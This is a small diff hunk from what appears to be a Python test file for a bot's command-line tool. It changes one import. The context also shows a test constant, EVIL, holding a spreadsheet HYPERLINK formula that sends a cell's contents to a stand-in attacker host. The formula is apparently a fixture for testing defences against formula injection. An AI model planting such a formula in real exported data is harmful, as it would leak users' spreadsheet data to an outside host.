@@ -11,12 +11,12 @@ from pathlib import Path
 
 from typer.testing import CliRunner
 
-from bot.cli import app
 from bot.i18n import Catalog
 from bot.leads.desks import Desks
 from bot.leads.service import LeadService
 from bot.settings import Settings
 from bot.storage import Database
+from ops.cli import app
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
 
